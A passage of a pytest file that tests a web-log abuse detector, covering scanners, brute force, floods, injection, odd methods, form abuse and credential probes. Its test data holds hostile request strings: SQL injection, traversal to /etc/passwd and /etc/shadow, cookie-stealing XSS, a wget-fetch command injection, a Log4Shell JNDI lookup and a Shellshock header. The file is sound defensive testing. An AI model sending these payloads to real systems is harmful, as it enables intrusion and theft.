"""Abuse detection (sql/forensics/abuse_candidates.sql, accesslake.detect).

Each behaviour is tested on a few literal rows next to ordinary visitors, then
on real logs and on the demo generator's planted attackers. The default
thresholds (policy ``[detect]``, docs/forensics.md) and why:

* scanner: ``scanner_min_probe_paths = 2`` distinct probes of paths no
  visitor of any site asks for (``/.env``, ``/.git/``, ``/phpmyadmin``, shells,
  backup archives...; WordPress and CGI paths count only when refused with
  4xx/5xx, since a site may run them). One probe alone is often a link typo
  or a single bot hit; two different ones are a scan. Or 404s on
  ``scanner_min_404_paths = 20`` distinct paths making at least
  ``scanner_min_404_share = 0.5`` of the client's requests (forced browsing);
  distinct paths, so that a tool retrying one missing file is not a scanner.
* bruteforce: ``bruteforce_min_posts = 15`` POSTs to one path in a day (a person
  posts a login form a few times; 15 is a guessing script), or
  ``bruteforce_min_auth_failures = 10`` answers 401 (or 403 to a POST).
* flood: a peak minute of at least ``flood_min_per_minute = 120`` requests and
  ``flood_factor = 20`` times the site's median per client-minute (a browser
  loading a heavy page makes bursts of 60-100; the median adapts to the site).
* injection and odd methods: one request is enough (``*_min_requests = 1``):
  no ordinary visitor sends ``' OR 1=1--`` or ``PROPFIND``.
* form_abuse: ``form_min_posts = 5`` POSTs to form endpoints and ``form_factor
  = 2.5`` times the site's median per posting client, or one sign-up/contact
  form sent back within ``form_max_fill_seconds = 3`` of loading it
  (``form_min_fast_posts = 1``; login forms excluded).
* credential_probe: one turned-away request for a login or admin endpoint
  (``credential_min_requests = 1``; see sql/forensics/credential_probes.sql).

Declared search-engine crawlers are exempt from the 404, flood, auth and
credential-probe rules (they follow dead links and crawl fast), never from
probes, payloads or form posts. The real-log evaluation of the two newer
families against judged labels is in test_detect_evaluation.py.
"""

from __future__ import annotations

import json
import stat
from datetime import UTC, datetime, timedelta
from pathlib import Path

import polars as pl
import pytest

from accesslake import holds
from accesslake import storage as lakefs
from accesslake.audit.stores import check_candidates, check_private_modes
from accesslake.config import Settings
from accesslake.demo import loggen
from accesslake.errors import ConfigError, HoldError
from accesslake.forensics import candidates
from accesslake.ingest import ingest_file
from accesslake.policy import Policy, load_policy, policy_from_mapping
from accesslake.retention import AnonymizeResult
from accesslake.retention.candidates import expire_candidates
from accesslake.schema import REQUEST_SCHEMA, conform
from accesslake.storage.auditlog import read_events


def candidate_violations(settings: Settings, now: datetime) -> list[str]:
    """What the audit says of the candidates: past the hard limit (P1), readable by others (H3)."""
    files = lakefs.list_files(candidates.candidates_root(settings.lake))
    return check_candidates(settings, now, files) + check_private_modes(settings.lake)


def expire(settings: Settings, now: datetime, *, dry_run: bool = False) -> int:
    """How many candidates retention deletes (or would delete) at ``now``."""
    result = AnonymizeResult(dry_run=dry_run)
    expire_candidates(settings, now, result, dry_run=dry_run)
    return result.candidates_deleted

NOW = datetime(2026, 11, 29, 3, 0, tzinfo=UTC)
T0 = datetime(2026, 11, 28, 14, 0, tzinfo=UTC)
DAY = T0.date()
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"


def make_rows(*specs: dict[str, object]) -> pl.DataFrame:
    base: dict[str, object] = {
        "ts": T0, "client_ip": "203.0.113.7", "method": "GET", "path": "/", "status": 200, "bytes": 100,
        "user_agent": BROWSER, "is_page": True, "received_at": NOW - timedelta(hours=1), "source_file": "a.log",
    }
    frame = pl.DataFrame(
        [{**base, "row_id": f"k:{i}", "source_line": i, **spec} for i, spec in enumerate(specs, start=1)],
        infer_schema_length=None,
    )
    return conform(frame, REQUEST_SCHEMA)


def visitors(count: int = 30) -> list[dict[str, object]]:
    """Ordinary visitors: a page and two assets each, within a minute."""
    return [
        {"client_ip": f"192.0.2.{n}", "ts": T0 + timedelta(minutes=n, seconds=s), "path": path}
        for n in range(1, count + 1)
        for s, path in ((0, "/products/"), (1, "/style.css"), (2, "/logo.png"))
    ]


def store(lake: Path, frame: pl.DataFrame, name: str = "part-t.parquet") -> None:
    for (day,), part in frame.with_columns(pl.col("ts").dt.date().alias("_d")).partition_by("_d", as_dict=True).items():
        lakefs.write_parquet_atomic(part.drop("_d"), lakefs.partition_dir(lake / "requests", "shop", day) / name)


def kinds_found(settings: Settings, *specs: dict[str, object], now: datetime = NOW) -> dict[str, list[str]]:
    """Store ordinary visitors plus ``specs``, run detection; client -> kinds."""
    store(settings.lake, make_rows(*visitors(), *specs))
    candidates.detect(settings, now)
    found = candidates.read_candidates(settings.lake)
    return dict(zip(found["client_ip"].to_list(), found["kinds"].to_list(), strict=True))


def repeat(spec: dict[str, object], count: int, seconds: float = 1.0) -> list[dict[str, object]]:
    return [{**spec, "ts": T0 + timedelta(seconds=i * seconds)} for i in range(count)]


# ---------------------------------------------------------------- one behaviour at a time


def test_ordinary_visitors_are_no_candidates(settings: Settings) -> None:
    assert kinds_found(settings) == {}
    assert lakefs.list_files(candidates.candidates_root(settings.lake)) == []


@pytest.mark.parametrize(
    ("paths", "status", "expected"),
    [
        (["/.env", "/phpmyadmin/"], 404, {"203.0.113.7": ["credential_probe", "scanner"]}),
        (["/.git/config", "/backup.sql"], 200, {"203.0.113.7": ["scanner"]}),  # found is worse than missing
        (["/.env"], 404, {}),  # one probe is not yet a scan
        (["/wp-login.php", "/xmlrpc.php"], 200, {}),  # a WordPress site answering its own paths
        (["/wp-login.php", "/xmlrpc.php"], 404, {"203.0.113.7": ["credential_probe", "scanner"]}),
        (["/cgi-bin/imagemap/map1", "/cgi-bin/imagemap/map2"], 200, {}),  # a site with CGI (NASA 1995)
        (["/cgi-bin/.%2e/.%2e/bin/sh", "/cgi-bin/luci"], 400, {"203.0.113.7": ["injection", "scanner"]}),
    ],
)
def test_scanner_probes(settings: Settings, paths: list[str], status: int, expected: dict[str, list[str]]) -> None:
    found = kinds_found(settings, *[{"path": p, "status": status, "ts": T0 + timedelta(seconds=i)}
                                    for i, p in enumerate(paths)])
    assert found == expected


def test_scanner_by_404s_on_many_paths(settings: Settings) -> None:
    guesses = [{"path": f"/self.logs/access.log.2015-01-{d:02d}.gz", "status": 404,
                "ts": T0 + timedelta(seconds=d)} for d in range(1, 21)]
    assert kinds_found(settings, *guesses) == {"203.0.113.7": ["scanner"]}


def test_404s_on_one_path_or_a_minority_are_no_scan(settings: Settings) -> None:
    retries = repeat({"path": "/files/tool-1.3.2.jar", "status": 404}, 30, seconds=60)
    mostly_fine = [{"client_ip": "198.51.100.4", "path": f"/missing/{i}", "status": 404 if i < 20 else 200,
                    "ts": T0 + timedelta(seconds=10 * i)} for i in range(45)]
    assert kinds_found(settings, *retries, *mostly_fine) == {}


def test_known_crawler_is_exempt_from_404s_not_from_probes(settings: Settings) -> None:
    dead_links = [{"client_ip": "66.249.66.1", "user_agent": GOOGLEBOT, "path": f"/old/{i}", "status": 404,
                   "ts": T0 + timedelta(seconds=i)} for i in range(25)]
    fake = [{"client_ip": "198.51.100.66", "user_agent": GOOGLEBOT, "path": p, "status": 404,
             "ts": T0 + timedelta(seconds=i)} for i, p in enumerate(["/.env", "/.git/HEAD"])]
    assert kinds_found(settings, *dead_links, *fake) == {"198.51.100.66": ["scanner"]}


def test_bruteforce_by_posts_to_one_path(settings: Settings) -> None:
    guesses = repeat({"method": "POST", "path": "/login", "status": 200}, 15, seconds=3)
    shopper = [{"client_ip": "198.51.100.5", "method": "POST", "path": f"/cart/add/{i}", "status": 302,
                "ts": T0 + timedelta(minutes=i)} for i in range(20)]
    below = repeat({"client_ip": "198.51.100.6", "method": "POST", "path": "/login", "status": 200}, 14, 5)
    assert kinds_found(settings, *guesses, *shopper, *below) == {"203.0.113.7": ["bruteforce"]}


def test_bruteforce_by_failed_authentication(settings: Settings) -> None:
    basic_auth = repeat({"path": "/members/", "status": 401}, 10, seconds=4)
    assert kinds_found(settings, *basic_auth) == {"203.0.113.7": ["bruteforce"]}


def test_flood_is_measured_against_the_site(settings: Settings) -> None:
    flood = repeat({"path": "/search", "query": "q=x"}, 130, seconds=0.4)  # 130 in 52 s
    busy_reader = repeat({"client_ip": "198.51.100.7", "path": "/img/a.jpg"}, 100, seconds=0.5)
    assert kinds_found(settings, *flood, *busy_reader) == {"203.0.113.7": ["flood"]}


def test_flood_threshold_rises_with_a_busy_site(lake: Path) -> None:
    settings = Settings(lake=lake, policy=Policy(detect_flood_min_per_minute=10, detect_flood_factor=20))
    busy = [{"client_ip": f"192.0.2.{n}", "ts": T0 + timedelta(minutes=n, seconds=s)}
            for n in range(1, 30) for s in range(8)]  # median 8 per client-minute -> 160
    store(lake, make_rows(*busy, *repeat({}, 150, seconds=0.3)))
    candidates.detect(settings, NOW)
    assert candidates.read_candidates(lake).height == 0


@pytest.mark.parametrize(
    "spec",
    [
        {"path": "/products/", "query": "id=1%27%20OR%201%3D1--"},
        {"path": "/search", "query": "q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--"},
        {"path": "/products/", "query": "sort=name%27%3B%20DROP%20TABLE%20orders%3B--"},
        {"path": "/news/html/", "query": "0'union/**/select/**/1/**/from/**/(select/**/count(*))"},
        {"path": "/download", "query": "file=..%2F..%2F..%2Fetc%2Fpasswd"},
        {"path": "/static/%252e%252e/%252e%252e/etc/shadow"},  # double-encoded traversal
        {"path": "/index.php", "query": "page=../../../../etc/passwd"},
        {"path": "/search", "query": "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"},
        {"path": "/cgi-bin/status", "query": "cmd=;cat%20/etc/hosts"},
        {"path": "/ping", "query": "host=127.0.0.1|wget%20http://x/a.sh"},
        {"path": "/", "query": "x=$(id)"},
        {"path": "/user.php", "referrer": "554fcae4|a:2:{s:3:\"num\";s:72:\"0,1 union select 1,0x27\"}"},
        {"path": "/", "user_agent": "${jndi:ldap://198.51.100.1/a}"},
        {"path": "/", "user_agent": "() { :; }; /bin/bash -c 'id'"},
        {"path": "/", "user_agent": 'Mozilla/5.0 \\"><script>alert(1)</script>'},
    ],
)
def test_injection_payloads(settings: Settings, spec: dict[str, object]) -> None:
    assert kinds_found(settings, spec) == {"203.0.113.7": ["injection"]}


@pytest.mark.parametrize(
    "spec",
    [
        {"path": "/search", "query": "q=union+station+select+seats"},
        {"path": "/shop/item;jsessionid=A1B2C3", "query": "id=5&idx=2"},
        {"path": "/", "user_agent": "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119"},
        {"path": "/scripts/%22$%7BWEBLOC%7D/view.php"},  # a crawler following a template placeholder
        {"path": "/blog/", "query": "s=select%20the%20best%20one"},
        {"path": "/%D9%85%D9%88%D8%A8%D8%A7%DB%8C%D9%84", "query": "page=2"},  # Persian URL
        {"path": "/x", "query": "bad=%e4%b8"},  # invalid UTF-8 after decoding must not break the model
    ],
)
def test_lookalikes_are_no_injection(settings: Settings, spec: dict[str, object]) -> None:
    assert kinds_found(settings, spec) == {}


@pytest.mark.parametrize(
    ("method", "path", "odd"),
    [
        ("PROPFIND", "/", True),
        ("CONNECT", "example.com:443", True),
        ("TRACE", "/", True),
        (None, "\\x16\\x03\\x01\\x02\\x00\\x01", True),  # a TLS handshake on the plain port
        (None, None, False),  # "-": a connection that sent nothing (408)
        ("OPTIONS", "*", False),
        ("PUT", "/api/items/1", False),
        ("DELETE", "/api/items/1", False),
    ],
)
def test_odd_methods(settings: Settings, method: str | None, path: str | None, odd: bool) -> None:
    found = kinds_found(settings, {"method": method, "path": path, "status": 400})
    assert found == ({"203.0.113.7": ["odd_method"]} if odd else {})


def test_only_rows_with_their_ip_still_in_time_are_read(settings: Settings) -> None:
    late_now = T0 + timedelta(hours=121)  # the requests are past anonymize_after (120 h)
    probes = [{"path": p, "status": 404, "ts": T0 + timedelta(seconds=i)} for i, p in enumerate(["/.env", "/.git/"])]
    anonymised = [{**p, "client_ip": None, "anonymized_at": NOW} for p in probes]
    store(settings.lake, make_rows(*anonymised))
    assert kinds_found(settings) == {}
    assert kinds_found(settings, *probes, now=late_now) == {}


# ---------------------------------------------------------------- credential probes


def flagged(settings: Settings, kind: str, *specs: dict[str, object]) -> set[str]:
    """The clients flagged ``kind`` among ordinary visitors plus ``specs`` (``t``: seconds after T0)."""
    rows = [{**{k: v for k, v in spec.items() if k != "t"}, "ts": T0 + timedelta(seconds=float(spec.get("t", 0)))}
            for spec in specs]
    return {ip for ip, kinds in kinds_found(settings, *rows).items() if kind in kinds}


@pytest.mark.parametrize(
    ("requests", "probe"),
    [
        ([("GET", "/wp-login.php", 404)], True),  # one request is enough
        ([("GET", "/xmlrpc.php", 301)], True),  # a redirect counts for software everybody attacks
        ([("GET", "//admin/login.php", 404)], True),  # repeated slashes, a login script
        ([("POST", "/admin/index.asp", 418)], True),
        ([("GET", "/Office/index.php/login/index.html", 404)], True),  # secrepo 2022
        ([("GET", "/wp-login.php", 200)], False),  # the site runs WordPress: viewing its login page
        ([("GET", "/xmlrpc.php", 304)], False),  # not modified: the site has it
        ([("GET", "/admin", 302), ("GET", "/admin/login/", 200)], False),  # the site's own admin redirects
        ([("GET", "/wp-admin/css/", 404)], False),  # a folder, not a login page
        ([("GET", "/data/admin/allowurl.txt", 404)], False),  # a CMS fingerprint, not a login page
        ([("GET", "/login/auth", 200)], False),  # zanbil's own login page
    ],
)
def test_credential_probe_rules(settings: Settings, requests: list[tuple[str, str, int]], probe: bool) -> None:
    specs = [{"method": m, "path": path, "status": status, "t": i} for i, (m, path, status) in enumerate(requests)]
    assert flagged(settings, "credential_probe", *specs) == ({"203.0.113.7"} if probe else set())


def test_declared_crawlers_are_exempt_from_credential_probes_fakes_and_scripts_are_not(settings: Settings) -> None:
    dead_link = {"client_ip": "66.249.66.1", "user_agent": GOOGLEBOT, "path": "/wp-login.php", "status": 404}
    fake_spider = {"client_ip": "171.216.91.218", "method": "POST", "path": "/admin/index.asp", "status": 404,
                   "user_agent": "Mozilla/5.0+(compatible;+Baispider/2.0;++http://www.bai.com/search/spider.html)"}
    script = {"client_ip": "120.131.11.207", "user_agent": "python-requests/2.20.1", "path": "/phpmyadmin/",
              "status": 404}
    assert flagged(settings, "credential_probe", dead_link, fake_spider, script) == {"171.216.91.218",
                                                                                       "120.131.11.207"}


def test_an_administrator_logging_in_is_no_probe(settings: Settings) -> None:
    flow = [("GET", "/wp-admin/", 302), ("GET", "/wp-login.php", 200), ("POST", "/wp-login.php", 302),
            ("GET", "/wp-admin/", 200)]
    admin = [{"client_ip": "198.51.100.9", "method": m, "path": p, "status": s, "t": 5 * i}
             for i, (m, p, s) in enumerate(flow)]
    gave_up = [{"client_ip": "198.51.100.10", "method": m, "path": p, "status": s, "t": 5 * i}
               for i, (m, p, s) in enumerate(flow[:2])]
    # a failed login redirected back to its form is no login of its own
    failed = [{"client_ip": "198.51.100.11", "method": m, "path": p, "status": s, "t": 5 * i, "is_page": page}
              for i, (m, p, s, page) in enumerate([("GET", "/admin", 404, True), ("POST", "/login", 302, True),
                                                    ("GET", "/login", 200, True), ("GET", "/style.css", 200, False)])]
    assert flagged(settings, "credential_probe", *admin, *gave_up, *failed) == {"198.51.100.10", "198.51.100.11"}


def test_credential_threshold_comes_from_the_policy(lake: Path) -> None:
    settings = Settings(lake=lake, policy=policy_from_mapping({"detect": {"credential_min_requests": 2}}))
    once = {"client_ip": "198.51.100.1", "path": "/wp-login.php", "status": 404}
    twice = [{"client_ip": "198.51.100.2", "path": "/xmlrpc.php", "status": 404, "t": t} for t in (0, 6)]
    assert flagged(settings, "credential_probe", once, *twice) == {"198.51.100.2"}


# ---------------------------------------------------------------- form abuse


def rounds(ip: str, path: str, count: int, fill: float, gap: float = 600, get: bool = True) -> list[dict[str, object]]:
    """``count`` rounds of (GET path,) POST path ``fill`` seconds later, ``gap`` seconds apart."""
    out: list[dict[str, object]] = []
    for i in range(count):
        if get:
            out.append({"client_ip": ip, "path": path, "t": i * gap})
        out.append({"client_ip": ip, "method": "POST", "path": path, "status": 302, "t": i * gap + fill})
    return out


def test_form_abuse_by_fill_time_and_by_volume(settings: Settings) -> None:
    found = flagged(
        settings, "form_abuse",
        *rounds("198.51.100.1", "/join_form", 1, fill=1),  # one sign-up 1 s after loading the form
        *rounds("198.51.100.2", "/contact", 2, fill=45),  # a person writing to the site twice
        *rounds("198.51.100.3", "/login", 4, fill=1),  # a password manager: logins are no fill-time case
        *rounds("198.51.100.4", "/login", 5, fill=8, get=False),  # five blind login POSTs: volume
        *rounds("198.51.100.5", "/contact", 6, fill=30),  # six contact messages in a day: volume
        {"client_ip": "198.51.100.6", "path": "/groups/5"},  # a one-click button on a page ...
        {"client_ip": "198.51.100.6", "method": "POST", "path": "/groups/5/join", "status": 302, "t": 1},
        *[{"client_ip": "198.51.100.7", "method": "POST", "path": "/m/updateVariation", "t": 20 * i}
          for i in range(11)],  # zanbil's shop AJAX
        *rounds("198.51.100.8", "/wp-comments-post.php", 1, fill=2),
        *rounds("198.51.100.9", "/join_form", 1, fill=1, get=False),  # a POST without loading the form
    )
    assert found == {"198.51.100.1", "198.51.100.4", "198.51.100.5", "198.51.100.8"}


def test_form_volume_floor_rises_with_the_sites_median(settings: Settings) -> None:
    # 20 clients posting 4 login forms each: median 4, floor 2.5 * 4 = 10; 9 stays below, 10 reaches it
    regulars = [r for n in range(20) for r in rounds(f"198.51.100.{n + 20}", "/login", 4, fill=9, get=False)]
    nine = rounds("203.0.113.9", "/login", 9, fill=9, get=False)
    ten = rounds("203.0.113.10", "/login", 10, fill=9, get=False)
    assert flagged(settings, "form_abuse", *regulars, *nine, *ten) == {"203.0.113.10"}
    row = candidates.read_candidates(settings.lake).row(0, named=True)
    assert (row["count_form_posts"], row["count_fast_form_posts"], row["score"]) == (10, 0, 1.0)


def test_declared_crawlers_are_not_exempt_from_form_abuse(settings: Settings) -> None:
    fake = [{**r, "user_agent": GOOGLEBOT} for r in rounds("198.51.100.66", "/join_form", 1, fill=1)]
    assert flagged(settings, "form_abuse", *fake) == {"198.51.100.66"}


# ---------------------------------------------------------------- thresholds from the policy


def test_thresholds_come_from_the_policy_file(tmp_path: Path, lake: Path) -> None:
    path = tmp_path / "policy.toml"
    path.write_text("[detect]\nscanner_min_probe_paths = 3\nflood_factor = 5\n", encoding="utf-8")
    policy = load_policy(path)
    assert (policy.detect_scanner_min_probe_paths, policy.detect_flood_factor) == (3, 5.0)

    probes = [{"path": p, "status": 404, "ts": T0 + timedelta(seconds=i)} for i, p in enumerate(["/.env", "/.git/"])]
    assert kinds_found(Settings(lake=lake, policy=policy), *probes) == {}


@pytest.mark.parametrize(
    ("section", "message"),
    [
        ({"scanner_min_probes": 2}, "unknown key 'scanner_min_probes' in [detect]"),
        ({"flood_min_per_minute": "many"}, "[detect] flood_min_per_minute must be of type int"),
        ({"bruteforce_min_posts": 0}, "[detect] bruteforce_min_posts must be at least 1"),
        ({"scanner_min_404_share": 1.5}, "[detect] scanner_min_404_share must be in (0, 1]"),
    ],
)
def test_detect_section_is_validated(section: dict[str, object], message: str) -> None:
    with pytest.raises(ConfigError) as caught:
        policy_from_mapping({"detect": section}, source="policy.toml")
    assert message in str(caught.value)
    assert str(caught.value).startswith("policy.toml:")


# ---------------------------------------------------------------- the stored candidates


def test_candidates_are_private_stable_and_audited(settings: Settings) -> None:
    probes = [{"path": p, "status": 404, "ts": T0 + timedelta(seconds=i)} for i, p in enumerate(["/.env", "/.git/"])]
    store(settings.lake, make_rows(*visitors(), *probes))

    first = candidates.detect(settings, NOW)
    again = candidates.detect(settings, NOW + timedelta(hours=1))

    target = settings.lake / "forensics" / "abuse_candidates" / "site=shop" / f"date={DAY}" / "part-0.parquet"
    assert first.files == again.files == [str(target)]
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    for folder in target.parents[:4]:
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
    row = candidates.read_candidates(settings.lake).row(0, named=True)
    assert row["candidate_id"] == first.candidates[0]["candidate_id"] == again.candidates[0]["candidate_id"]
    assert (row["site"], row["day"], row["kinds"], row["count_requests"], row["count_404"]) == (
        "shop", DAY, ["scanner"], 2, 2)
    assert row["example_requests"] == ["GET /.env", "GET /.git/"]
    assert row["user_agents"] == [BROWSER]
    assert (row["first_seen_at"], row["last_seen_at"]) == (T0, T0 + timedelta(seconds=1))
    assert row["detected_at"] == NOW + timedelta(hours=1)
    assert pl.read_parquet(target).schema == candidates.CANDIDATE_SCHEMA
    events = read_events(settings.lake, "detect")
    assert [e["candidates"] for e in events] == [1, 1]
    assert "203.0.113.7" not in str(events)  # counts and hashes, never the IPs
    assert candidate_violations(settings, NOW) == []


def test_a_day_without_candidates_loses_its_stale_file(settings: Settings) -> None:
    probes = [{"path": p, "status": 404, "ts": T0 + timedelta(seconds=i)} for i, p in enumerate(["/.env", "/pma/"])]
    store(settings.lake, make_rows(*probes))
    candidates.detect(settings, NOW)

    later = candidates.detect(settings, T0 + timedelta(hours=121), day=DAY)

    assert later.count_candidates == 0 and len(later.removed) == 1
    assert candidates.read_candidates(settings.lake).height == 0


def test_read_candidates_by_site_and_day(settings: Settings) -> None:
    kinds_found(settings, {"method": "TRACE"}, {"method": "TRACE", "ts": T0 + timedelta(days=1)})
    assert candidates.read_candidates(settings.lake)["day"].to_list() == [DAY + timedelta(days=1), DAY]
    assert candidates.read_candidates(settings.lake, day=DAY).height == 1
    assert candidates.read_candidates(settings.lake, site="other").height == 0


# ---------------------------------------------------------------- candidate -> hold


def test_hold_from_candidate_covers_the_ip_for_the_day(settings: Settings) -> None:
    kinds_found(settings, {"path": "/.env", "status": 404}, {"path": "/pma/", "status": 404})
    candidate = candidates.read_candidates(settings.lake).row(0, named=True)

    hold = candidates.hold_from_candidate(
        settings, candidate["candidate_id"], case_reference="CASE-7", purpose="vulnerability scan",
        legal_basis="6-1-f", authorized_by="dpo@example.org", now=NOW, review_days=14,
    )

    assert hold.scope.ips == ("203.0.113.7",)
    assert hold.scope.start == datetime(2026, 11, 28, tzinfo=UTC)
    assert hold.scope.end == datetime(2026, 11, 29, tzinfo=UTC)
    assert hold.source_candidate == candidate["candidate_id"]
    assert hold.review_at == NOW + timedelta(days=14)
    assert holds.get_hold(settings.lake, hold.id) == hold


def test_hold_from_unknown_candidate_is_refused(settings: Settings) -> None:
    with pytest.raises(HoldError, match="unknown abuse candidate 'AC-0000000000000000'"):
        candidates.hold_from_candidate(settings, "AC-0000000000000000", case_reference="C", purpose="p",
                                   legal_basis="6-1-f", authorized_by="a", now=NOW)


def test_hold_from_a_host_name_candidate_is_refused(settings: Settings) -> None:
    kinds_found(settings, {"client_ip": "dialup-7.example.net", "method": "PROPFIND"})
    candidate_id = candidates.read_candidates(settings.lake)["candidate_id"][0]
    with pytest.raises(HoldError, match="'dialup-7.example.net' cannot be a hold scope"):
        candidates.hold_from_candidate(settings, candidate_id, case_reference="C", purpose="p",
                                   legal_basis="6-1-f", authorized_by="a", now=NOW)


# ---------------------------------------------------------------- retention and audit


def test_candidates_expire_with_their_requests(settings: Settings) -> None:
    kinds_found(settings, {"method": "TRACE"}, {"method": "TRACE", "client_ip": "198.51.100.8",
                                                "ts": T0 + timedelta(hours=30)})
    due = T0 + timedelta(hours=121)  # the first candidate's request is past anonymize_after

    assert expire(settings, due, dry_run=True) == 1
    assert candidates.read_candidates(settings.lake).height == 2
    assert expire(settings, due) == 1
    assert candidates.read_candidates(settings.lake)["client_ip"].to_list() == ["198.51.100.8"]
    assert expire(settings, T0 + timedelta(hours=200)) == 1
    assert lakefs.list_files(candidates.candidates_root(settings.lake)) == []


def test_audit_finds_candidates_past_the_hard_limit_and_loose_modes(settings: Settings) -> None:
    kinds_found(settings, {"method": "TRACE"})
    target = lakefs.list_files(candidates.candidates_root(settings.lake))[0]

    assert candidate_violations(settings, T0 + timedelta(hours=167)) == []
    (late,) = candidate_violations(settings, T0 + timedelta(hours=169))
    assert late.startswith(f"P1 abuse candidates: {target}: 1 candidates keep an IP past the 168 h limit")

    target.chmod(0o644)
    (loose,) = candidate_violations(settings, NOW)
    assert loose == f"H3 forensics: {target} has mode 0o644; must not be readable by group or others (chmod go-rwx)"


# ---------------------------------------------------------------- real logs and the demo


def ingest_real(real_logs: Path, lake: Path, name: str, now: datetime) -> Settings:
    settings = Settings(lake=lake, policy=Policy())
    ingest_file(real_logs / name, settings, now, site="real")
    candidates.detect(settings, now)
    return settings


CRAWLERS = ("googlebot", "bingbot", "yandexbot", "seznambot", "mj12bot", "baiduspider", "applebot")
LABELS = json.loads((Path(__file__).resolve().parents[1] / "data" / "forensics-labels.json").read_text("utf-8"))


def judged(log: str, family: str) -> set[str]:
    """The clients of ``log`` judged abusive in ``family`` (tests/data/forensics-labels.json)."""
    return {ip for ip, label in LABELS["labels"][log].items() if label[family]}


def candidates_by_ip(settings: Settings) -> dict[str, dict[str, object]]:
    found = candidates.read_candidates(settings.lake)
    for agents in found["user_agents"].to_list():
        assert not any(c in a.lower() for a in agents for c in CRAWLERS), agents
    return {row["client_ip"]: row for row in found.iter_rows(named=True)}


def test_secrepo_2018_attackers_are_found(real_logs: Path, lake: Path) -> None:
    # Logged at -0800, 2018-12-15 02:18 .. 2018-12-16 02:14 local: at 12:00Z every IP is kept.
    found = candidates_by_ip(ingest_real(real_logs, lake, "secrepo_2018-12-15_combined.log",
                                         datetime(2018, 12, 16, 12, tzinfo=UTC)))
    # 202.115.12.166: /.git/config, /.svn/entries, /.bash_history, /back.zip, /www.secrepo.com.tar.gz,
    #   /self.logs/phpMyAdmin/index.php, phpinfo.php ... 58 requests in two minutes, 49 of them 404.
    assert "scanner" in found["202.115.12.166"]["kinds"]
    assert found["202.115.12.166"]["count_probe_paths"] >= 20
    # 120.131.11.207 (python-requests): /phpmyadmin/, /pma/, /phpMyAdmin/, all 404 (also a credential probe).
    assert "scanner" in found["120.131.11.207"]["kinds"]
    # 198.72.227.213 (python-requests): 4156 requests guessing /self.logs/... archive names,
    #   2731 of them 404, up to 680 a minute.
    assert found["198.72.227.213"]["kinds"] == ["flood", "scanner"]
    assert found["198.72.227.213"]["peak_per_minute"] >= 600
    # 222.186.20.115: "/news/html/?0'union/**/select/**/1/**/from/**/(select/**/count(*),concat(..."
    #   and "/HitCount.asp?...id=1 and 1=2 union select password from qianbo_admin".
    assert found["222.186.20.115"]["kinds"] == ["injection"]
    # The 31 clients judged credential probers (tests/data/forensics-labels.json: the Firefox/40.1
    # WordPress botnet asking /wp-login.php once each, a DedeCMS login, a CMS fingerprinter ...) are
    # credential_probe candidates; 29 of them are nothing else (one probe is not a scan).
    probers = judged("secrepo_2018-12-15_combined.log", "credential_probe")
    assert len(probers) == 31
    assert {ip for ip, row in found.items() if "credential_probe" in row["kinds"]} == probers
    assert found["120.131.11.207"]["kinds"] == ["credential_probe", "scanner"]
    # Nothing else: bingbot, YandexBot, SeznamBot, MJ12bot and some 300 visitors are not candidates.
    assert set(found) == probers | {"202.115.12.166", "198.72.227.213", "222.186.20.115"}


def test_secrepo_2021_attackers_are_found(real_logs: Path, lake: Path) -> None:
    found = candidates_by_ip(ingest_real(real_logs, lake, "secrepo_2021_combined.log",
                                         datetime(2021, 10, 27, 12, tzinfo=UTC)))
    # 125.78.229.99: the ECShop user.php exploit, "554fcae4...|a:2:{...union select ..." in the Referer.
    assert "injection" in found["125.78.229.99"]["kinds"]
    # 8.29.105.82: DedeCMS injections, "fup=../../do%5Cjs" and "\\' or mid=@`\\'` /*!50000union*/".
    assert found["8.29.105.82"]["kinds"] == ["injection"]
    # 168.61.172.62: /.env and /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php.
    assert found["168.61.172.62"]["kinds"] == ["scanner"]
    # The seven judged credential probers (/xmlrpc.php, /administrator/index.php, /phpmyadmin, /admin,
    # a fake "Baispider" POSTing /admin/index.asp, a WordPress botnet client), and nothing else.
    probers = judged("secrepo_2021_combined.log", "credential_probe")
    assert {ip for ip, row in found.items() if row["kinds"] == ["credential_probe"]} == probers
    assert set(found) == probers | {"125.78.229.99", "8.29.105.82", "168.61.172.62"}


def test_basjes_form_spammer_is_found(real_logs: Path, lake: Path) -> None:
    found = candidates_by_ip(ingest_real(real_logs, lake, "basjes_hackers_combined_ipv6.log",
                                         datetime(2015, 10, 30, 16, tzinfo=UTC)))
    # 216.244.81.34 on 2015-10-26: 19 POST /login_form and 19 POST /join_form (the unadvertised
    # form every client of this log went for) between 06:07 and 13:09 UTC.
    assert found["216.244.81.34"]["kinds"] == ["bruteforce", "form_abuse"]
    assert found["216.244.81.34"]["max_posts_one_path"] == 19
    assert found["216.244.81.34"]["count_form_posts"] == 38
    # With the default 120 h only the last five days keep their IPs (test_detect_evaluation.py reads
    # all six): every candidate is one of the clients judged form spammers, and no other kind shows.
    assert set(found) <= judged("basjes_hackers_combined_ipv6.log", "form_abuse")
    assert {kind for row in found.values() for kind in row["kinds"]} == {"bruteforce", "form_abuse"}


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> tuple[Settings, loggen.Planted]:
    folder = tmp_path_factory.mktemp("demo")
    log = loggen.generate_log(folder / "access.log", now=NOW, days=1, lines=5000)
    settings = Settings(lake=folder / "lake", policy=Policy())
    ingest_file(log.path, settings, NOW, site="shop", fmt=loggen.DEMO_FORMAT, cookie=loggen.DEMO_COOKIE)
    candidates.detect(settings, NOW)
    return settings, log.planted


def test_demo_planted_attackers_are_found(demo: tuple[Settings, loggen.Planted]) -> None:
    settings, planted = demo
    found = {row["client_ip"]: row for row in candidates.read_candidates(settings.lake).iter_rows(named=True)}
    windows = {actor: (first, last) for actor, first, last in planted.windows}

    for ip, kind, actor in [(planted.scanner_ip, "scanner", "scanner"),
                            (planted.bruteforce_ip, "bruteforce", "bruteforce"),
                            (planted.flood_ip, "flood", "flood"),
